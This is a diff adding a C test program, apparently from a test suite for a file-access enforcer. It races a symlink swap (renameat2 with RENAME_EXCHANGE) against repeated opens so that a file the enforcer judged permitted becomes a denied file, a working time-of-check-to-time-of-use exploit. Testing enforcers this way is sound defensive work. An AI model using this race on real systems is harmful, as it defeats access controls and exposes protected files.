@@ -1,0 +1,79 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Claim: the object that is opened is the object that was judged, although a
+ * symbolic link on the way is exchanged all the time (catalogue B1).
+ *
+ *	opener			swapper			enforcer
+ *	openat(link) --------------------------------->	resolves link: permitted
+ *				renameat2(link, other,
+ *				  RENAME_EXCHANGE)
+ *	kernel walks link: denied <-------------------	lets the call through
+ *
+ * Both links lie in the scratch directory. Winning prints DATA and the content
+ * of the denied file.
+ */
+#include "attack.h"
+
+#ifndef RENAME_EXCHANGE
+#define RENAME_EXCHANGE 2
+#endif
+
+static char link_name[PATH_MAX], other_name[PATH_MAX];
+
+static void place(char *name, const char *dir, const char *leaf, const char *target)
+{
+	if (snprintf(name, PATH_MAX, "%s/%s", dir, leaf) >= PATH_MAX)
+		broken("name too long: %s", dir);
+	unlink(name);
+	if (symlink(target, name))
+		broken("symlink %s: %s", name, strerror(errno));
+}
+
+static void swap_run(struct flip *flip)
+{
+	for (unsigned int turn = 1; !atomic_load(&flip->stop); turn++) {
+		syscall(SYS_renameat2, JUNK(AT_FDCWD), link_name, JUNK(AT_FDCWD), other_name,
+			JUNK(RENAME_EXCHANGE));
+		atomic_store(&flip->turns, turn);
+		spin(flip_pause(turn));
+	}
+}
+
+static void race(struct run *run, const char *first, const char *second)
+{
+	struct flip *flip = shared_memory(sizeof(*flip));
+	pid_t peer;
+
+	run_learn_decoy(run);
+	place(link_name, run->dir, "link", first);
+	place(other_name, run->dir, "other", second);
+	peer = fork();
+	if (peer < 0)
+		broken("fork: %s", strerror(errno));
+	if (!peer) {
+		swap_run(flip);
+		_exit(0);
+	}
+	while (race_next(run, &flip->turns))
+		run_opened(run, raw_open(link_name, O_RDONLY));
+	flip_reap(&flip->stop, peer);
+}
+
+int main(int argc, char **argv)
+{
+	struct run run = run_begin(argc, argv);
+
+	switch (run.mode) {
+	case MODE_BENIGN:
+		run.limit = BENIGN_ROUNDS;
+		race(&run, run.allowed, run.allowed);
+		break;
+	case MODE_DIRECT:
+		run_plain_read(&run, run.denied);
+		break;
+	case MODE_ATTACK:
+		race(&run, run.allowed, run.denied);
+		break;
+	}
+	run_end(&run);
+}
